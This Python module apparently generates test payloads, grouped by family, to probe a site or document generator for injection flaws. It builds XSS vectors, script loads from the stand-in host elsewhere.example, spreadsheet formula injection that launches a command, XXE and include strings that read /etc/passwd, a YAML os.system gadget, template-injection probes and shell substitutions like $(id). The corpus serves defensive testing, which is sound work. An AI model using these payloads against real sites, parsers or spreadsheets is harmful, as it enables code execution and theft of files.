"""Words that would be more than words where a page, a feed, a table or a printer let them: some hundreds, by family.

Each calls `run('...')` where it is a script, asks `elsewhere.example` where it loads something, or puts elements, ids,
rows, fields or commands where only text belongs. They are made from parts, so that each part meets each other.
"""

from __future__ import annotations

from collections.abc import Iterator, Mapping
from itertools import product

RUN = "run('{}')"
ELSEWHERE = "http://elsewhere.example"

_EVENTS = ("onerror", "onload", "onclick", "onmouseover", "onfocus", "ontoggle", "onanimationstart", "onpointerenter")
_ELEMENTS = (
    "img src=x",
    "svg",
    "body",
    "details open",
    "input autofocus",
    "video src=x",
    "iframe",
    "style",
    "math",
    "a href=#",
)
_CLOSERS = (
    "",
    "</title>",
    "</textarea>",
    "</script>",
    "</style>",
    "</template>",
    "-->",
    "]]>",
    '">',
    "'>",
    "</p></div>",
)
_SCHEMES = (
    "javascript:",
    "JaVaScRiPt:",
    "java\u00adscript:",
    "javascript&colon;",
    "&#106;avascript:",
    "vbscript:",
    "file:///",
    "blob:",
    "data:text/html,",
)
_QUOTES = ('"', "'", "`", " ", "&quot;", "&#34;", '\\"', "%22", "\u201d")


def _scripts() -> Iterator[str]:
    for closer, script in product(
        _CLOSERS, ("<script>{}</script>", "<SCRIPT src=//elsewhere.example/x.js></SCRIPT>", "<script/x>{}")
    ):
        yield closer + script.replace("{}", RUN.format("script"))
    yield "<scr<script>ipt>run('nested')</scr</script>ipt>"


def _elements() -> Iterator[str]:
    for element, event in product(_ELEMENTS, _EVENTS):
        yield f"<{element} {event}={RUN.format(event)}>"
    for name in (
        "iframe",
        "object data",
        "embed",
        "link rel=stylesheet href",
        "base href",
        "form action",
        "meta http-equiv",
    ):
        yield f"<{name}={ELSEWHERE}/{name[:4]}>"
    yield f'<meta http-equiv="refresh" content="0;url={ELSEWHERE}/">'
    yield f"<style>@import '{ELSEWHERE}/x.css'; * {{ display: none }}</style>"


def _attributes() -> Iterator[str]:
    for quote, event in product(_QUOTES, _EVENTS):
        yield f"{quote} {event}={quote}{RUN.format('attribute')}{quote} x={quote}"
    yield '" style="position:fixed;inset:0;background:url(//elsewhere.example/s)" x="'
    yield '" srcdoc="<script>parent.run(1)</script>" x="'


def _links() -> Iterator[str]:
    for scheme in _SCHEMES:
        yield f"<a href={scheme}{RUN.format('link')}>a</a>"
        yield f"[a]({scheme}{RUN.format('markdown link')})"
        yield f"![a]({scheme}{RUN.format('markdown image')})"
        yield f"<{scheme}{RUN.format('autolink')}>"
        yield f"[a]: {scheme}{RUN.format('reference')}"
    for shape in ("[a]({})", "![a]({})", "<{}>", "[a][b] [b]: {}", "{}", '[a](<{}> "t")', "[![a]({})]({})"):
        yield shape.replace("{}", f"{ELSEWHERE}/l.png")


def _markdown() -> Iterator[str]:
    yield from (
        "# Heading",
        "## Heading { #parley }",
        "> quote",
        "* item",
        "1. item",
        "***",
        "---",
        "===",
        "~~~ sh",
        "``` js",
    )
    yield from (
        "| a | b |",
        "| --- | --- |",
        "a | b",
        "[^1]",
        "[^1]: note",
        "*[HTML]: x",
        ": term",
        "!!! note",
        "??? x",
        '=== "tab"',
    )
    yield from (
        "**bold**",
        "__bold__",
        "_em_",
        "*em*",
        "`code`",
        "``co`de``",
        "~~del~~",
        "==mark==",
        "^^ins^^",
        ":smile:",
    )
    yield from (
        "{ .class }",
        "{: #id }",
        "{#id onclick=run(1)}",
        "{ style=color:red }",
        "[TOC]",
        "[[us]]",
        "[[wiki|x]]",
        "[@s]",
        "\\",
    )
    yield from (
        '--8<-- "/etc/passwd"',
        "<!-- more -->",
        "&nbsp;",
        "&lt;script&gt;",
        "&#60;script&#62;",
        "&amp;amp;",
        "&#0;",
        "&bogus;",
    )


def _clobbering() -> Iterator[str]:
    for name in (
        "p-content",
        "p-search",
        "__md_scope",
        "__palette_0",
        "location",
        "document",
        "getElementById",
        "source-s1",
        "pagefind",
    ):
        yield f"<a id={name} name={name}>"
        yield f'" id="{name}'
        yield f"{{ #{name} }}"
        yield f"<form id={name}><input name=children>"


def _templates() -> Iterator[str]:
    for expression in ("7*7", "config", "self.__init__.__globals__", "cycler.__init__", "range(10**9)", "run(1)"):
        for shape in ("{{ {} }}", "{% print {} %}", "${{}}", "#{{}}", "<%= {} %>", "{{={}=}}", "{{{ {} }}}", "@({})"):
            yield shape.replace("{}", expression, 1) if "{}" in shape else shape
    yield from (
        "{% raw %}",
        "{% endraw %}",
        "{# comment #}",
        "{% include '/etc/passwd' %}",
        "{{ '' | safe }}",
        "$(id)",
        "`id`",
    )


def _front_matter() -> Iterator[str]:
    yield from (
        "--- title: x ---",
        "+++ title='x' +++",
        "title: x",
        "hide: [navigation]",
        "template: x.html",
        "... ---",
        "%YAML 1.1",
    )
    yield from (
        "!!python/object/apply:os.system [id]",
        "&a *a",
        "<<: *a",
        "search: {exclude: true}",
        "---\\ntitle: y\\n---",
    )


def _data() -> Iterator[str]:
    for sign in "=+-@":
        for formula in (
            "cmd|' /C calc'!A0",
            'HYPERLINK("http://elsewhere.example","a")',
            "1+1",
            "SUM(A1:A9)",
            "IMPORTXML(1)",
        ):
            yield sign + formula
    yield from (
        "</script><script>run('ld')</script>",
        '"}</script><svg onload=run(1)>',
        "<!--<script>",
        "\\u003cscript\\u003e",
        '","@id":"x',
    )
    yield from (
        "}, @misc{x, title={y}}",
        "\\input{/etc/passwd}",
        "\\write18{id}",
        "$x^2$ % comment",
        "{unbalanced",
        "unbalanced}",
        "\\\\",
        "~#&_^",
    )
    yield from (
        "ER  - ",
        "TY  - BOOK",
        "UR  - javascript:run(1)",
        "END:VEVENT",
        "BEGIN:VALARM",
        "ATTACH:file:///etc/passwd",
        "X\\nY\\,Z\\;",
    )
    yield from (
        "]]><x/>",
        "<![CDATA[<script>run(1)</script>]]>",
        "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>",
        "&e;",
        "<?xml version='1.0'?>",
        "<entry><title>x</title></entry>",
        "</feed>",
    )


def _typst() -> Iterator[str]:
    yield from (
        '#read("/etc/passwd")',
        '#import "x.typ"',
        '#eval("1")',
        '#image("/x.png")',
        '#link("javascript:run(1)")[a]',
        "#set page(width: 1pt)",
        "#pagebreak()",
    )
    yield from (
        "#{ while true {} }",
        "= Heading",
        "$ x $",
        "<label>",
        "@label",
        "#[a]",
        "\\u{202e}",
        "// comment",
        "/* comment */",
        "#panic()",
        ']#eval("1")[',
        '")#eval("1")',
    )


def _letters() -> Iterator[str]:
    yield from (
        "\u200b\u200bzero\u200bwidth",
        "a\u200db\u200cc",
        "\u200fright\u200eleft",
        "\u061cmark",
        "\u00ad\u00adsoft",
        "e\u0301\u0301\u0301",
    )
    yield from (
        "\u202fnarrow",
        "\u3000wide",
        "\ufffd",
        "\U000e0041\U000e0042tags",
        "\ufe0f\ufe0f",
        "\u1160filler",
        "\uff1cscript\uff1erun(1)\uff1c/script\uff1e",
    )
    yield from (
        "\u2039script\u203a",
        "\u02bascript",
        "\u0338\u0338",
        "z\u0351\u036b\u0343\u036a\u0302",
        "\U0001f468\u200d\U0001f469\u200d\U0001f467",
        "\u0130\u0131\u017f\u212a",
        "\ufb01\u1e9e",
    )


FAMILIES: Mapping[str, tuple[str, ...]] = {
    "scripts": tuple(_scripts()),
    "elements": tuple(_elements()),
    "attributes": tuple(_attributes()),
    "links": tuple(_links()),
    "Markdown": tuple(_markdown()),
    "ids": tuple(_clobbering()),
    "templates": tuple(_templates()),
    "front matter": tuple(_front_matter()),
    "formats of data": tuple(_data()),
    "Typst": tuple(_typst()),
    "letters": tuple(_letters()),
}
PAYLOADS: tuple[str, ...] = tuple(dict.fromkeys(one for family in FAMILIES.values() for one in family))


def as_prose(text: str) -> str:
    """The payload without what prose itself gives a meaning."""
    return text.translate(str.maketrans("", "", "[]*_`\\"))
